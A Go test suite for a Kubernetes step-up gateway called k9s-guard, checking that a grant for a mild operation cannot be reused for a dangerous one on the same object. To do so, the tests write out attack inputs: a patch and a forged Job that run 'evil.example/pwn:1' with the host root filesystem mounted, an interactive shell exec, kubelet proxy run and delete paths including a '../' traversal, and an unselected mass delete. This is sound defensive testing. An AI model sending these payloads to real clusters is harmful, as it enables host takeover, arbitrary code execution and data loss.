package gateway_test

// Issue 13, section 1: a grant covers the operation its code was typed
// for, not the object. Each test plays a process holding the session
// token (the same client K9s builds from the session kubeconfig) against
// the real kube-apiserver: the mild operation is granted, then the
// dangerous one on the same object is tried, and must ask again. The
// askers here answer yes only to the operation the user meant.

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/rand"

	"github.com/k9s-guard/k9s-guard/audit"
	"github.com/k9s-guard/k9s-guard/kube"
	"github.com/k9s-guard/k9s-guard/profile"
	"github.com/k9s-guard/k9s-guard/stepup"
	"github.com/k9s-guard/k9s-guard/testbed/cluster"
)

// actionAsker says yes only to requests whose action (and, when set,
// content) is the one the user meant, and records every question.
type actionAsker struct {
	action, content string
	hold            chan struct{} // when set, the first question waits for it
	n               atomic.Int32
	mu              sync.Mutex
	seen            []kube.StepUpRequest
}

func (a *actionAsker) Ask(ctx context.Context, req kube.StepUpRequest) (bool, error) {
	if a.n.Add(1) == 1 && a.hold != nil {
		select {
		case <-a.hold:
		case <-ctx.Done():
			return false, ctx.Err()
		}
	}
	a.mu.Lock()
	a.seen = append(a.seen, req)
	a.mu.Unlock()
	return req.Action == a.action && (a.content == "" || req.Content == a.content), nil
}

func (a *actionAsker) asked() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []string
	for _, r := range a.seen {
		out = append(out, r.Action)
	}
	return out
}

// scopedHarness protects prod with operation scopes and an elevation that
// may do anything (the admin context).
func scopedHarness(t *testing.T, asker kube.Asker, oneShot bool) *harness {
	t.Helper()
	pol := protected(srcContext)
	pol.Scope, pol.OneShot = profile.ScopeOperation, oneShot
	return startHarness(t, harnessOpts{policies: map[string]profile.Policy{cluster.ContextProd: pol}, asker: asker})
}

// refusedByGuard: the gateway answered, not the API server.
func refusedByGuard(err error) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), "k9s-guard refused")
}

// elevated counts the request.elevated records matching f.
func (h *harness) elevated(f func(audit.Record) bool) int {
	h.audit.mu.Lock()
	defer h.audit.mu.Unlock()
	n := 0
	for _, ev := range h.audit.events {
		if ev.Event == audit.EventRequestElevated && f(ev) {
			n++
		}
	}
	return n
}

// aDeployment creates a fresh Deployment in shop for one test.
func aDeployment(t *testing.T) string {
	t.Helper()
	labels := map[string]string{"app": "grant-" + rand.String(5)}
	d, err := adminClient(t).AppsV1().Deployments("shop").Create(context.Background(), &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "grant-"},
		Spec: appsv1.DeploymentSpec{
			Replicas: new(int32),
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "registry.invalid/web:1"}}},
			},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = adminClient(t).AppsV1().Deployments("shop").Delete(context.Background(), d.Name, metav1.DeleteOptions{})
	})
	return d.Name
}

func restartPatch() []byte {
	return fmt.Appendf(nil, `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":%q}}}}}`, time.Now().Format(time.RFC3339))
}

// The attacker's patch: its image and the host's root filesystem.
const evilPatch = `{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"evil.example/pwn:1","volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`

func imageOf(t *testing.T, name string) string {
	t.Helper()
	d, err := adminClient(t).AppsV1().Deployments("shop").Get(context.Background(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return d.Spec.Template.Spec.Containers[0].Image
}

// TestRestartGrantDoesNotCarryImagePatch — attack: "restart deployment
// shop/web" is granted (from K9s's key, or from a held request); then a
// PATCH of the same Deployment setting an attacker's image and a hostPath
// volume goes out elevated with no prompt. It must ask, and on a no the API
// server never sees it.
func TestRestartGrantDoesNotCarryImagePatch(t *testing.T) {
	for _, via := range []string{"keys", "gateway"} {
		t.Run(via, func(t *testing.T) {
			asker := &actionAsker{action: "restart"}
			h := scopedHarness(t, asker, false)
			name := aDeployment(t)
			if via == "keys" {
				scope, _ := stepup.KeyScope("restart", "deployments", []stepup.Target{{Namespace: "shop", Name: name}})
				if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
					t.Fatal(err)
				}
			}
			deploys := h.client(t, cluster.ContextProd).AppsV1().Deployments("shop")
			ctx := context.Background()
			if _, err := deploys.Patch(ctx, name, types.StrategicMergePatchType, restartPatch(), metav1.PatchOptions{}); err != nil {
				t.Fatalf("the restart itself: %v", err)
			}
			_, err := deploys.Patch(ctx, name, types.StrategicMergePatchType, []byte(evilPatch), metav1.PatchOptions{})
			if !refusedByGuard(err) {
				t.Fatalf("image+hostPath patch under the restart grant: %v", err)
			}
			if img := imageOf(t, name); img != "registry.invalid/web:1" {
				t.Fatalf("the image became %q", img)
			}
			if got := asker.asked(); len(got) == 0 || got[len(got)-1] != "edit" {
				t.Fatalf("questions %v: the image patch was not asked about as an edit", got)
			}
		})
	}
}

// TestCordonGrantDoesNotCarryRelabel — attack: after "cordon node node-1"
// is granted, the node is relabelled (a label that steers workloads onto
// it) under the same grant.
func TestCordonGrantDoesNotCarryRelabel(t *testing.T) {
	asker := &actionAsker{action: "cordon"}
	h := scopedHarness(t, asker, false)
	scope, _ := stepup.KeyScope("cordon", "nodes", []stepup.Target{{Name: "node-1"}})
	if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_, _ = adminClient(t).CoreV1().Nodes().Patch(context.Background(), "node-1", types.StrategicMergePatchType,
			[]byte(`{"spec":{"unschedulable":null},"metadata":{"labels":{"redteam":null}}}`), metav1.PatchOptions{})
	})
	nodes := h.client(t, cluster.ContextProd).CoreV1().Nodes()
	ctx := context.Background()
	if _, err := nodes.Patch(ctx, "node-1", types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{}); err != nil {
		t.Fatalf("the cordon itself: %v", err)
	}
	if n := asker.n.Load(); n != 0 {
		t.Fatalf("the cordon asked %d times under its own grant", n)
	}
	_, err := nodes.Patch(ctx, "node-1", types.StrategicMergePatchType, []byte(`{"metadata":{"labels":{"redteam":"owned"}}}`), metav1.PatchOptions{})
	if !refusedByGuard(err) {
		t.Fatalf("relabel under the cordon grant: %v", err)
	}
	n, err := adminClient(t).CoreV1().Nodes().Get(ctx, "node-1", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := n.Labels["redteam"]; ok || !n.Spec.Unschedulable {
		t.Fatalf("node labels %v, unschedulable %v", n.Labels, n.Spec.Unschedulable)
	}
}

// aCronJob creates a suspended CronJob in shop (the controller must not
// start Jobs of its own) and returns it as K9s reads it, defaulted.
func aCronJob(t *testing.T) *batchv1.CronJob {
	t.Helper()
	ctx := context.Background()
	admin := adminClient(t)
	suspended := true
	cj, err := admin.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "nightly-"},
		Spec: batchv1.CronJobSpec{
			Schedule: "0 3 * * *",
			Suspend:  &suspended,
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				RestartPolicy: corev1.RestartPolicyNever,
				Containers:    []corev1.Container{{Name: "c", Image: "registry.invalid/nightly:1"}},
			}}}},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = admin.BatchV1().CronJobs("shop").Delete(context.Background(), cj.Name, metav1.DeleteOptions{})
	})
	return cj
}

// TestSuspendGrantCoversK9sUpdateOnly — attack: K9s suspends a CronJob by
// PUTting it back with spec.suspend flipped; a grant for that suspend must
// not carry a PUT that also swaps the job template's image. The K9s
// sequence (GET, flip, PUT) rides the key's grant; the doctored PUT asks
// (as an edit) and is refused.
func TestSuspendGrantCoversK9sUpdateOnly(t *testing.T) {
	asker := &actionAsker{action: "suspend"}
	h := scopedHarness(t, asker, false)
	ctx := context.Background()
	cj := aCronJob(t)
	scope, _ := stepup.KeyScope("suspend", "cronjobs", []stepup.Target{{Namespace: "shop", Name: cj.Name}})
	if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
		t.Fatal(err)
	}
	cronJobs := h.client(t, cluster.ContextProd).BatchV1().CronJobs("shop")
	// What K9s's suspend/resume sends.
	cur, err := cronJobs.Get(ctx, cj.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	resumed := false
	cur.Spec.Suspend = &resumed
	cur, err = cronJobs.Update(ctx, cur, metav1.UpdateOptions{})
	if err != nil {
		t.Fatalf("K9s's resume under the suspend grant: %v", err)
	}
	if n := asker.n.Load(); n != 0 {
		t.Fatalf("the resume asked %d times under its own grant", n)
	}
	suspend := true
	cur.Spec.Suspend = &suspend
	cur.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Image = "evil.example/pwn:1"
	if _, err := cronJobs.Update(ctx, cur, metav1.UpdateOptions{}); !refusedByGuard(err) {
		t.Fatalf("a suspend that also changes the image: %v", err)
	}
	live, err := adminClient(t).BatchV1().CronJobs("shop").Get(ctx, cj.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if img := live.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Image; img != "registry.invalid/nightly:1" {
		t.Fatalf("the image became %q", img)
	}
	if got := asker.asked(); len(got) != 1 || got[0] != "edit" {
		t.Fatalf("questions %v, want one about an edit", got)
	}
}

// TestTriggerGrantDoesNotCarryArbitraryJob — attack: "trigger cronjob
// nightly" is granted; then a POST of a Job that names nightly as its owner
// but runs an attacker's image with the host's filesystem goes out
// elevated. The Job K9s builds from the CronJob's template goes out; the
// forged one asks (as a create) and is refused.
func TestTriggerGrantDoesNotCarryArbitraryJob(t *testing.T) {
	asker := &actionAsker{action: "trigger"}
	h := scopedHarness(t, asker, false)
	ctx := context.Background()
	admin := adminClient(t)
	cj := aCronJob(t)
	scope, _ := stepup.KeyScope("trigger", "cronjobs", []stepup.Target{{Namespace: "shop", Name: cj.Name}})
	if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
		t.Fatal(err)
	}
	yes := true
	job := func(name string, spec batchv1.JobSpec) *batchv1.Job {
		return &batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Name: name, OwnerReferences: []metav1.OwnerReference{{
				APIVersion: "batch/v1", Kind: "CronJob", Name: cj.Name, UID: cj.UID, Controller: &yes, BlockOwnerDeletion: &yes,
			}}},
			Spec: spec,
		}
	}
	jobs := h.client(t, cluster.ContextProd).BatchV1().Jobs("shop")
	// What K9s's trigger sends: the template's spec, owned by the CronJob.
	real := cj.Name + "-manual-" + rand.String(3)
	if _, err := jobs.Create(ctx, job(real, cj.Spec.JobTemplate.Spec), metav1.CreateOptions{}); err != nil {
		t.Fatalf("the trigger itself: %v", err)
	}
	if n := asker.n.Load(); n != 0 {
		t.Fatalf("the trigger asked %d times under its own grant", n)
	}
	forged := cj.Spec.JobTemplate.Spec.DeepCopy()
	forged.Template.Spec.Containers[0].Image = "evil.example/pwn:1"
	forged.Template.Spec.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
	forged.Template.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}
	_, err := jobs.Create(ctx, job("pwn-"+rand.String(4), *forged), metav1.CreateOptions{})
	if !refusedByGuard(err) {
		t.Fatalf("forged Job under the trigger grant: %v", err)
	}
	if got := asker.asked(); len(got) != 1 || got[0] != "create" {
		t.Fatalf("questions %v, want one about a create", got)
	}
	l, err := admin.BatchV1().Jobs("shop").List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, j := range l.Items {
		if strings.HasPrefix(j.Name, "pwn-") {
			t.Fatalf("the forged Job %s exists", j.Name)
		}
	}
}

// TestNodeProxyGrantCoversOnlyItsPath — attack: `GET
// nodes/node-1/proxy/configz` is granted; then `POST .../proxy/run/...` and
// `DELETE .../proxy/pods/...` reach the kubelet under the same grant. (The
// test cluster has no kubelet, so the API server answers the one allowed
// request with an error of its own; what is asserted is that the gateway
// sent only that one elevated, and recorded its sub-path.)
func TestNodeProxyGrantCoversOnlyItsPath(t *testing.T) {
	asker := &actionAsker{action: "proxy", content: "GET /configz"}
	h := scopedHarness(t, asker, false)
	rc := h.client(t, cluster.ContextProd).CoreV1().RESTClient()
	ctx := context.Background()
	err := rc.Get().AbsPath("/api/v1/nodes/node-1/proxy/configz").Do(ctx).Error()
	if refusedByGuard(err) {
		t.Fatalf("the granted GET was refused: %v", err)
	}
	for _, r := range []struct{ method, path string }{
		{"POST", "/api/v1/nodes/node-1/proxy/run/shop/web/c"},
		{"DELETE", "/api/v1/nodes/node-1/proxy/pods/shop/web"},
		{"GET", "/api/v1/nodes/node-1/proxy/configz/../run"},
	} {
		err := rc.Verb(r.method).AbsPath(r.path).Do(ctx).Error()
		if !refusedByGuard(err) {
			t.Errorf("%s %s under the configz grant: %v", r.method, r.path, err)
		}
	}
	if n := h.elevated(func(ev audit.Record) bool { return ev.Resource == "nodes" }); n != 1 {
		t.Fatalf("%d elevated node proxy requests, want 1", n)
	}
	if n := h.elevated(func(ev audit.Record) bool { return ev.SubPath == "/configz" }); n != 1 {
		t.Fatal("the elevated proxy record does not carry its sub-path")
	}
}

// TestTransferGrantDoesNotCarryShell — attack: "transfer" (kubectl cp's
// `tar cf -`) is granted for a pod; then `exec sh -i` with a tty opens in
// the same pod. (No kubelet here: the API server refuses the exec itself;
// what is asserted is the gateway's decision and the recorded command.)
func TestTransferGrantDoesNotCarryShell(t *testing.T) {
	for _, via := range []string{"keys", "gateway"} {
		t.Run(via, func(t *testing.T) {
			asker := &actionAsker{action: "transfer"}
			h := scopedHarness(t, asker, false)
			pod := aPod(t)
			if via == "keys" {
				scope, _ := stepup.KeyScope("transfer", "pods", []stepup.Target{{Namespace: "shop", Name: pod}})
				if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
					t.Fatal(err)
				}
			}
			rc := h.client(t, cluster.ContextProd).CoreV1().RESTClient()
			ctx := context.Background()
			exec := func(cmd ...string) error {
				req := rc.Post().Namespace("shop").Resource("pods").Name(pod).SubResource("exec").Param("container", "c").Param("stdout", "true")
				for _, c := range cmd {
					req = req.Param("command", c)
				}
				if cmd[0] == "sh" {
					req = req.Param("stdin", "true").Param("tty", "true")
				}
				return req.Do(ctx).Error()
			}
			if err := exec("tar", "cf", "-", "/data"); refusedByGuard(err) {
				t.Fatalf("the transfer itself was refused: %v", err)
			}
			if err := exec("sh", "-i"); !refusedByGuard(err) {
				t.Fatalf("a shell under the transfer grant: %v", err)
			}
			if n := h.elevated(func(ev audit.Record) bool { return ev.Subresource == "exec" }); n != 1 {
				t.Fatalf("%d elevated execs, want 1", n)
			}
			if n := h.elevated(func(ev audit.Record) bool { return ev.Command == "tar cf - /data" }); n != 1 {
				t.Fatal("the elevated exec record does not carry its command")
			}
		})
	}
}

// aNamespace creates a namespace with n ConfigMaps, for tests that delete
// collections.
func aNamespace(t *testing.T, n int) string {
	t.Helper()
	ctx := context.Background()
	admin := adminClient(t)
	ns, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "grants-"}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = admin.CoreV1().Namespaces().Delete(context.Background(), ns.Name, metav1.DeleteOptions{}) })
	for i := range n {
		if _, err := admin.CoreV1().ConfigMaps(ns.Name).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("cm-%d", i)}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	return ns.Name
}

func configMaps(t *testing.T, ns string) int {
	t.Helper()
	l, err := adminClient(t).CoreV1().ConfigMaps(ns).List(context.Background(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, cm := range l.Items {
		if strings.HasPrefix(cm.Name, "cm-") {
			n++
		}
	}
	return n
}

// TestDeleteCollectionGrantKeepsItsSelector — attack: "delete configmaps"
// with labelSelector=redteam=nothing (which matches nothing) is granted;
// then the same DELETE without a selector removes every ConfigMap.
func TestDeleteCollectionGrantKeepsItsSelector(t *testing.T) {
	asker := &actionAsker{action: "delete", content: `labelSelector="redteam=nothing" fieldSelector=""`}
	pol := protected(srcContext)
	pol.Scope = profile.ScopeOperation
	h := startHarness(t, harnessOpts{policies: map[string]profile.Policy{cluster.ContextProd: pol}, asker: asker})
	ns := aNamespace(t, 3)
	cms := h.client(t, cluster.ContextProd).CoreV1().ConfigMaps(ns)
	ctx := context.Background()
	if err := cms.DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{LabelSelector: "redteam=nothing"}); err != nil {
		t.Fatalf("the granted delete-collection: %v", err)
	}
	if err := cms.DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}); !refusedByGuard(err) {
		t.Fatalf("delete-collection without a selector under the grant: %v", err)
	}
	if n := configMaps(t, ns); n != 3 {
		t.Fatalf("%d of 3 ConfigMaps left", n)
	}
}

// TestJoinedImagePatchDoesNotRideRestartPrompt — attack: while a held
// restart PATCH waits on its prompt (which says "restart"), an image PATCH
// of the same Deployment arrives and joins it; both went out on the one
// answer. The image patch must wait for that answer and then ask for
// itself.
func TestJoinedImagePatchDoesNotRideRestartPrompt(t *testing.T) {
	asker := &actionAsker{action: "restart", hold: make(chan struct{})}
	h := scopedHarness(t, asker, false)
	name := aDeployment(t)
	deploys := h.client(t, cluster.ContextProd).AppsV1().Deployments("shop")
	ctx := context.Background()
	errs := make(chan error, 2)
	patch := func(body []byte) {
		_, err := deploys.Patch(ctx, name, types.StrategicMergePatchType, body, metav1.PatchOptions{})
		errs <- err
	}
	go patch(restartPatch())
	poll(t, 10*time.Second, func() bool { return h.gw.Waiting(cluster.ContextProd) == 1 })
	go func() {
		_, err := deploys.Patch(ctx, name, types.StrategicMergePatchType, []byte(evilPatch), metav1.PatchOptions{})
		if err == nil {
			err = fmt.Errorf("image patch went out")
		} else if !refusedByGuard(err) {
			err = fmt.Errorf("image patch: %w", err)
		} else {
			err = nil
		}
		errs <- err
	}()
	poll(t, 10*time.Second, func() bool { return h.gw.Waiting(cluster.ContextProd) == 2 })
	close(asker.hold)
	for range 2 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
	if img := imageOf(t, name); img != "registry.invalid/web:1" {
		t.Fatalf("the image became %q", img)
	}
	if got := asker.asked(); len(got) != 2 || got[0] != "restart" || got[1] != "edit" {
		t.Fatalf("questions %v, want restart then edit", got)
	}
}

// TestOneShotCountsRequests — attack: with oneShot: true, five concurrent
// creates share one prompt and all five go out on one code. Each code now
// lets one request out: the others ask for codes of their own (this asker
// gives one every time) or are refused after asking a few times; never do
// more creates go out than codes were entered.
func TestOneShotCountsRequests(t *testing.T) {
	asker := &actionAsker{action: "create", hold: make(chan struct{})}
	h := scopedHarness(t, asker, true)
	ns := aNamespace(t, 0)
	// The viewer may not create here; only the elevated identity can, so
	// every ConfigMap that exists went out elevated.
	cms := h.client(t, cluster.ContextProd).CoreV1().ConfigMaps(ns)
	const n = 5
	var wg sync.WaitGroup
	var created atomic.Int32
	errs := make([]error, n)
	for i := range n {
		wg.Go(func() {
			_, errs[i] = cms.Create(context.Background(), &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("cm-%d", i)}}, metav1.CreateOptions{})
			if errs[i] == nil {
				created.Add(1)
			}
		})
	}
	poll(t, 10*time.Second, func() bool { return h.gw.Waiting(cluster.ContextProd) == n })
	close(asker.hold)
	wg.Wait()
	for i, err := range errs {
		if err != nil && !refusedByGuard(err) {
			t.Errorf("create %d: %v", i, err)
		}
	}
	codes := asker.n.Load()
	if got := int32(configMaps(t, ns)); got != created.Load() || got == 0 || got > codes {
		t.Fatalf("%d ConfigMaps exist, %d creates answered OK, %d codes entered", got, created.Load(), codes)
	}
	if e := int32(h.elevated(func(ev audit.Record) bool { return ev.Namespace == ns })); e != created.Load() {
		t.Fatalf("%d elevated records for %d creates", e, created.Load())
	}
}

// kubectlBin finds the pinned kubectl, where the test bed finds its other
// binaries.
func kubectlBin(t *testing.T) string {
	t.Helper()
	if d := os.Getenv("K9S_GUARD_TOOLS"); d != "" {
		return filepath.Join(d, "kubectl")
	}
	wd, _ := os.Getwd()
	for d := wd; filepath.Dir(d) != d; d = filepath.Dir(d) {
		if p := filepath.Join(d, ".tools", "bin", "kubectl"); fileExists(p) {
			return p
		}
	}
	p, err := exec.LookPath("kubectl")
	if err != nil {
		t.Fatal("no kubectl: run `make tools` (or set K9S_GUARD_TOOLS)")
	}
	return p
}

func fileExists(p string) bool {
	st, err := os.Stat(p)
	return err == nil && !st.IsDir()
}

// TestKubectlCpRidesTransferGrant: what K9s's transfer really runs —
// `kubectl cp --retries=999` with the session kubeconfig, which execs
// `sh -c "tar cf - '/data' | tail -c+0"` — rides the key's transfer grant
// without a second prompt, and the audit record carries that command.
// (No kubelet here: the API server refuses the exec itself, after the
// gateway has sent it elevated; kubectl then retries over SPDY, a second
// exec, which rides the grant too.)
func TestKubectlCpRidesTransferGrant(t *testing.T) {
	asker := &actionAsker{action: "none"}
	h := scopedHarness(t, asker, false)
	pod := aPod(t)
	scope, _ := stepup.KeyScope("transfer", "pods", []stepup.Target{{Namespace: "shop", Name: pod}})
	if _, err := h.windows.OpenScoped(cluster.ContextProd, time.Minute, scope, "keys"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, kubectlBin(t), "--kubeconfig", h.gw.KubeconfigPath(), "--context", cluster.ContextProd,
		"cp", "shop/"+pod+":/data", filepath.Join(t.TempDir(), "data"), "--no-preserve=false", "--retries=999", "-c=c")
	out, _ := cmd.CombinedOutput() // fails: the pod has no node to exec on
	if n := asker.n.Load(); n != 0 {
		t.Fatalf("kubectl cp asked %d times under the transfer grant (%v):\n%s", n, asker.asked(), out)
	}
	want := `sh -c 'tar cf - '\''/data'\'' | tail -c+0'`
	if n := h.elevated(func(ev audit.Record) bool {
		return ev.Subresource == "exec" && ev.Command == want && ev.Action == "transfer"
	}); n == 0 {
		h.audit.mu.Lock()
		defer h.audit.mu.Unlock()
		t.Fatalf("no elevated exec of %s; audit %+v\nkubectl: %s", want, h.audit.events, out)
	}
}
